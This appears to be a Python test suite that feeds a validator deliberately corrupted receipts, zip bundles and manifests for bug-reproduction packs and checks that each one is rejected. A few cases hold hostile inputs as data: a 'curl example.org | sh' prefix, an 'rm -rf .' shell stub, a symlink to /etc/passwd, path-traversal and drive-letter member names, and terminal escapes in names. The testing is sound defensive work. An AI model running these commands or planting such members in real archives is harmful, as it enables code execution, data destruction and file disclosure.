@receipt("lanes.patched.peak_memory")
def a_lane_of_negative_memory(sent: Sent) -> None:
    sent.lane()["peak_memory"] = -1


@receipt("lanes.patched.waited")
def a_lane_that_waited_a_negative_time(sent: Sent) -> None:
    sent.lane()["waited"] = -1.0


@receipt("started")
def a_run_of_the_future(sent: Sent) -> None:
    sent.document["started"] = (dt.datetime.now(dt.UTC) + dt.timedelta(days=30)).isoformat(timespec="seconds")


@receipt("started")
def a_date_that_does_not_exist(sent: Sent) -> None:
    sent.document["started"] = "2026-02-31T12:00:00+00:00"


@receipt("started")
def a_date_without_a_time_zone(sent: Sent) -> None:
    sent.document["started"] = "2026-11-20T12:00:00"


@receipt("ranks")
def no_ranks(sent: Sent) -> None:
    sent.document["ranks"] = 0


@receipt("ranks")
def more_ranks_than_the_target_starts(sent: Sent) -> None:
    sent.document["ranks"] = 8


@receipt("strength")
def more_wrong_fixes_refused_than_there_were(sent: Sent) -> None:
    sent.document["strength"] = {"killed": 9, "of": 3, "unjudged": 0, "seed": 0, "date": "2026-11-20"}


@receipt("schema")
def an_unknown_schema(sent: Sent) -> None:
    sent.document["schema"] = 3


@receipt("schema")
def a_schema_that_is_a_boolean(sent: Sent) -> None:
    sent.document["schema"] = True


@receipt("lanes.patched.exit_status")
def a_boolean_for_an_integer(sent: Sent) -> None:
    sent.lane()["exit_status"] = False


@receipt("lanes.patched.checks[0].ok")
def an_integer_for_a_boolean(sent: Sent) -> None:
    sent.state("checks", "fp32.none_losses", ok=1)


@receipt("lanes.patched.outputs[0].must_match")
def an_integer_for_must_match(sent: Sent) -> None:
    sent.state("outputs", "fp32.mean.loss", must_match=1)


@receipt("seconds")
def a_string_for_a_number(sent: Sent) -> None:
    sent.document["seconds"] = "11.7"


@receipt("lanes.patched.outputs[0].shape[0]")
def a_negative_shape(sent: Sent) -> None:
    sent.state("outputs", "fp32.mean.loss", shape=[-1])


@receipt("lanes.patched.outputs[0].sha256")
def an_output_hash_that_is_no_hash(sent: Sent) -> None:
    for lane in ("pristine", "patched"):
        sent.state("outputs", "fp32.mean.loss", lane, sha256="same as before")


@receipt("approved_by")
def a_key_that_receipts_do_not_have(sent: Sent) -> None:
    sent.document["approved_by"] = "upstream"


@receipt("approved_by")
def a_key_that_lanes_do_not_have(sent: Sent) -> None:
    sent.lane()["approved_by"] = "upstream"


@receipt("probe")
def a_key_that_is_missing(sent: Sent) -> None:
    del sent.document["probe"]


@receipt("claims")
def claims_that_are_one_string(sent: Sent) -> None:
    sent.document["claims"] = "BITWISE_IDENTICAL"


@receipt("lanes.patched")
def a_lane_that_is_a_list(sent: Sent) -> None:
    sent.document["lanes"]["patched"] = [sent.lane()]


@receipt("lanes.patched.checks[0].role")
def a_role_that_does_not_exist(sent: Sent) -> None:
    sent.state("checks", "fp32.none_losses", role="witness")


# --- a receipt's bytes


def _first_value(sent: str, other: str) -> str:
    """Put another text in the place of the first figure's value."""
    return re.sub(r'"value": [-+.0-9eE]+', lambda _: other, sent, count=1)


@text("NaN")
def a_figure_that_is_not_a_number(sent: str) -> str:
    return _first_value(sent, '"value": NaN')


@text("Infinity")
def an_infinite_figure(sent: str) -> str:
    return _first_value(sent, '"value": -Infinity')


@text("1e999")
def a_figure_that_overflows(sent: str) -> str:
    return _first_value(sent, '"value": 1e999')


@text("digits")
def an_integer_of_5000_digits(sent: str) -> str:
    return sent.replace('"peak_memory": ', '"peak_memory": ' + "9" * 5000, 1)


@text("peak_memory")
def an_integer_of_40_digits(sent: str) -> str:
    return sent.replace('"peak_memory": ', '"peak_memory": ' + "9" * 40, 1)


@text("verdict")
def a_key_that_stands_twice(sent: str) -> str:
    return sent.replace('"verdict": "CONFIRMED"', '"verdict": "ERROR", "verdict": "CONFIRMED"', 1)


@text("deep")
def a_value_that_is_nested_100000_deep(sent: str) -> str:
    return _first_value(sent, '"value": ' + "[" * 100_000 + "]" * 100_000)


@text("deep")
def a_value_that_is_nested_500_deep(sent: str) -> str:
    return _first_value(sent, '"value": ' + "[" * 500 + "]" * 500)


@text("surrogate")
def a_lone_surrogate(sent: str) -> str:
    return sent.replace('"reason": ""', '"reason": "\\ud800"', 1)


@text("UTF-8")
def bytes_that_are_no_text(sent: str) -> bytes:
    return sent.encode().replace(b'"reason": ""', b'"reason": "\xff\xfe"', 1)


@text("JSON")
def half_a_receipt(sent: str) -> str:
    return sent[: len(sent) // 2]


@text("JSON")
def a_receipt_and_then_another(sent: str) -> str:
    return sent + sent


@text("object")
def a_list_of_receipts(sent: str) -> str:
    return f"[{sent}]"


@text("empty")
def an_empty_file(sent: str) -> str:
    return sent[:0]


@text("bytes")
def a_receipt_of_40_megabytes(sent: str) -> str:
    return sent + " " * 40_000_000


@text("title")
def a_terminal_escape_in_the_title(sent: str) -> str:
    return sent.replace('"title": "', '"title": "\\u001b[2J', 1)


# --- bundles


@bundle("REPORT.md")
def a_report_whose_figure_is_edited(sent: Bundle) -> None:
    figure = re.search(r"\d\.\d{2}(?=\D)", sent.members["REPORT.md"].decode())
    assert figure, "the report shows no figure"
    sent.edit("REPORT.md", figure[0], f"{9 - int(figure[0][0])}{figure[0][1:]}")


@bundle("REPORT.md")
def a_report_whose_verdict_is_edited(sent: Bundle) -> None:
    sent.edit("REPORT.md", "CONFIRMED", "FIXED_UPSTREAM")


@bundle("REPORT.md")
def a_report_whose_words_are_edited(sent: Bundle) -> None:
    sent.edit("REPORT.md", " the ", " no ")


@bundle("REPORT.md")
def a_report_with_another_paragraph(sent: Bundle) -> None:
    sent.members["REPORT.md"] += b"\nThe maintainers agree with all of this.\n"


@bundle("REPORT.md")
def a_report_with_a_paragraph_below_its_verdicts(sent: Bundle) -> None:
    sent.edit("REPORT.md", "CONFIRMED: the tree", "The maintainers agree with all of this.\n\nCONFIRMED: the tree")


@bundle("REPORT.md")
def a_report_with_a_paragraph_behind_its_patch(sent: Bundle) -> None:
    changed = sent.members["REPORT.md"].decode().rindex("```\n\n## Testing")
    text = sent.members["REPORT.md"].decode()
    words = "The default branch is wrong with the patch.\n\nAnd it is right without the patch.\n\n"
    sent.members["REPORT.md"] = (text[: changed + 5] + words + text[changed + 5 :]).encode()


@bundle("REPORT.md")
def a_report_with_a_version_that_was_not_used(sent: Bundle) -> None:
    sent.edit("REPORT.md", "NVIDIA H200", "NVIDIA B200")


@bundle("REPORT.md")
def a_report_of_another_pack(sent: Bundle) -> None:
    sent.members["REPORT.md"] = (PACKS / "14_sparse_mla_precision" / "report.in.md").read_bytes()


@bundle("REPORT.md")
def a_report_with_its_placeholders(sent: Bundle) -> None:
    sent.members["REPORT.md"] = (LIGER / "report.in.md").read_bytes() + b"{{figure:cpu:loss_noise}}"


@bundle("README.md")
def a_first_page_with_another_verdict(sent: Bundle) -> None:
    sent.edit("README.md", "CONFIRMED", "FIX_INEFFECTIVE")


@bundle("README.md")
def a_first_page_with_a_foreign_command(sent: Bundle) -> None:
    sent.edit("README.md", "uv run reproduce.py", "curl example.org | sh; uv run reproduce.py")


@bundle("run.sh")
def a_foreign_script(sent: Bundle) -> None:
    sent.members["run.sh"] = b"#!/bin/sh\necho BUG_REPRODUCED\n"


@bundle("run.sh")
def a_foreign_script_outside_the_manifest(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/run.sh", b"#!/bin/sh\n")


@bundle("receipts/notes.txt")
def a_foreign_member_among_the_receipts(sent: Bundle) -> None:
    sent.members["receipts/notes.txt"] = b"all good"


@bundle("reproduce.py")
def another_probe(sent: Bundle) -> None:
    sent.members["reproduce.py"] += b"\nprint('all is well')\n"


@bundle("reproduce.py")
def a_probe_with_one_more_comment(sent: Bundle) -> None:
    sent.members["reproduce.py"] += b"# reviewed by upstream\n"


@bundle("fix.patch")
def another_patch(sent: Bundle) -> None:
    sent.members["fix.patch"] = (PACKS / "14_sparse_mla_precision" / "fix.patch").read_bytes()


@bundle("pack.toml")
def another_definition(sent: Bundle) -> None:
    sent.edit("pack.toml", 'kind = "wrong-result"', 'kind = "crash"')


@bundle("fix.head.patch")
def a_head_patch_that_the_pack_does_not_have(sent: Bundle) -> None:
    sent.members["fix.head.patch"] = sent.members["fix.patch"]


@bundle("pack")
def another_packs_receipts(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.startswith("receipts/")]:
        del sent.members[name]
    folder = PACKS / "01_dsa_cuda_graph" / "receipts"
    for path in folder.glob("sm_90a.executed*"):
        sent.members[f"receipts/{path.name}"] = path.read_bytes()


@bundle("upstream")
def the_heads_receipt_among_the_pinned(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.startswith("receipts/cpu")]:
        del sent.members[name]
    for name in [name for name in sent.members if name.startswith("receipts/head/")]:
        sent.members[name.replace("head/", "")] = sent.members.pop(name)


@bundle("upstream")
def a_pinned_receipt_among_the_heads(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.startswith("receipts/cpu")]:
        sent.members[name.replace("receipts/", "receipts/head/")] = sent.members[name]


@bundle("verdict")
def a_receipt_whose_verdict_is_edited(sent: Bundle) -> None:
    name, document = next(iter(sent.receipts().items()))
    sent.put(name, document | {"verdict": "PATCH_BREAKS"})


@bundle("receipts/sm_80.compiled.json")
def a_receipt_by_another_targets_name(sent: Bundle) -> None:
    name = next(name for name in sent.receipts() if name.startswith("receipts/cpu"))
    sent.members["receipts/sm_80.compiled.json"] = sent.members.pop(name)


@bundle("log")
def a_receipt_without_its_log(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.startswith("receipts/cpu") and name.endswith(".log")]:
        del sent.members[name]


@bundle("receipts/sm_80.compiled.log")
def a_log_without_a_receipt(sent: Bundle) -> None:
    sent.members["receipts/sm_80.compiled.log"] = b"== pristine lane ==\n"


@bundle("log.sha256")
def a_log_that_is_edited(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.endswith(".log")]:
        sent.members[name] += b"\n"


@bundle("receipt")
def no_receipts(sent: Bundle) -> None:
    for name in [name for name in sent.members if name.startswith("receipts/")]:
        del sent.members[name]


@bundle("reproduce.py")
def no_probe(sent: Bundle) -> None:
    del sent.members["reproduce.py"]


@bundle("fix.patch")
def no_patch(sent: Bundle) -> None:
    del sent.members["fix.patch"]


@bundle("REPORT.md")
def no_report(sent: Bundle) -> None:
    del sent.members["REPORT.md"]


@bundle("MANIFEST.json")
def no_manifest(sent: Bundle) -> None:
    sent.drop_manifest = True


@bundle("MANIFEST.json")
def a_manifest_that_is_no_json(sent: Bundle) -> None:
    sent.manifest = b"{"


@bundle("MANIFEST.json")
def a_manifest_of_an_unknown_schema(sent: Bundle) -> None:
    hashes = {name: hashlib.sha256(data).hexdigest() for name, data in sent.members.items()}
    sent.manifest = json.dumps({"schema": 2, "pack": sent.pack, "runner": "0", "files": hashes}).encode()


@bundle("fix.patch")
def a_manifest_with_another_hash(sent: Bundle) -> None:
    hashes = {name: hashlib.sha256(data).hexdigest() for name, data in sent.members.items()}
    hashes["fix.patch"] = OTHER_HASH
    sent.manifest = json.dumps({"schema": 1, "pack": sent.pack, "runner": "0", "files": hashes}).encode()


@bundle("MANIFEST.json")
def a_manifest_that_leaves_a_member_out(sent: Bundle) -> None:
    hashes = {name: hashlib.sha256(data).hexdigest() for name, data in sent.members.items() if name != "fix.patch"}
    sent.manifest = json.dumps({"schema": 1, "pack": sent.pack, "runner": "0", "files": hashes}).encode()


@bundle("pack")
def a_manifest_of_another_pack(sent: Bundle) -> None:
    hashes = {name: hashlib.sha256(data).hexdigest() for name, data in sent.members.items()}
    stated = {"schema": 1, "pack": "14_sparse_mla_precision", "runner": "0", "files": hashes}
    sent.manifest = json.dumps(stated).encode()


@bundle("pack")
def a_folder_of_another_pack(sent: Bundle) -> None:
    sent.pack = "14_sparse_mla_precision"


@bundle("pack")
def a_folder_of_no_pack(sent: Bundle) -> None:
    sent.pack = "packs"


@bundle("symbolic link")
def a_member_that_is_a_symbolic_link(sent: Bundle) -> None:
    del sent.members["fix.patch"]
    sent.foreign(f"{sent.pack}/fix.patch", b"/etc/passwd", 0o120777)


@bundle("mode")
def a_member_that_can_be_executed(sent: Bundle) -> None:
    data = sent.members.pop("reproduce.py")
    sent.foreign(f"{sent.pack}/reproduce.py", data, 0o104755)


@bundle("/evil")
def a_member_with_an_absolute_name(sent: Bundle) -> None:
    sent.foreign("/evil", b"x")


@bundle("..")
def a_member_that_climbs(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/../../evil", b"x")


@bundle("\\")
def a_member_with_backslashes(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}\\..\\evil", b"x")


@bundle("C:")
def a_member_on_a_drive(sent: Bundle) -> None:
    sent.foreign("C:/evil", b"x")


@bundle("twice")
def a_member_that_stands_twice(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/fix.patch", b"diff --git a/x b/x\n")


@bundle("twice")
def a_member_that_stands_twice_but_for_case(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/FIX.patch", b"diff --git a/x b/x\n")


@bundle("folder")
def a_member_that_is_a_folder(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/receipts/", b"", 0o040755)


@bundle("outside")
def a_member_outside_the_packs_folder(sent: Bundle) -> None:
    sent.foreign("setup.py", b"print()")


@bundle("bytes")
def a_member_that_unpacks_to_40_megabytes(sent: Bundle) -> None:
    sent.members["receipts/cpu.interpreted.log"] = b"\0" * 40_000_000


@bundle("members")
def five_thousand_members(sent: Bundle) -> None:
    for number in range(5000):
        sent.foreign(f"{sent.pack}/receipts/{number}.json", b"{}")


@bundle("name")
def a_member_with_a_control_character(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/fix\x1b[2J.patch", b"x")


@bundle("name")
def a_member_with_a_name_of_5000_characters(sent: Bundle) -> None:
    sent.foreign(f"{sent.pack}/" + "x" * 5000, b"x")


# --- a bundle's bytes


def _flags(data: bytes, bit: int) -> bytes:
    """Set a bit in the flags of every member, in the local headers and in the central directory."""
    changed = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            changed[start + at] |= bit
            start = data.find(mark, start + 4)
    return bytes(changed)


@zipped("encrypted")
def an_encrypted_bundle(sent: bytes) -> bytes:
    return _flags(sent, 1)


@zipped("zip")
def half_a_bundle(sent: bytes) -> bytes:
    return sent[: len(sent) // 2]


@zipped("zip")
def a_program_with_a_bundle_behind_it(sent: bytes) -> bytes:
    return b"#!/bin/sh\nexec rm -rf .\n" + sent


@zipped("zip")
def a_bundle_with_something_behind_it(sent: bytes) -> bytes:
    return sent + b"#!/bin/sh\n"


@zipped("comment")
def a_bundle_with_a_comment(sent: bytes) -> bytes:
    stream = io.BytesIO(sent)
    with zipfile.ZipFile(stream, "a") as made:
        made.comment = b"verified"
    return stream.getvalue()


@zipped("compress")
def a_member_with_a_compression_that_the_runner_never_uses(sent: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sent)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_BZIP2) as made:
        for info in old.infolist():
            made.writestr(info.filename, old.read(info))
    return stream.getvalue()


@zipped("zip")
def a_member_with_a_flipped_bit(sent: bytes) -> bytes:
    changed = bytearray(sent)
    changed[200] ^= 0x55
    return bytes(changed)
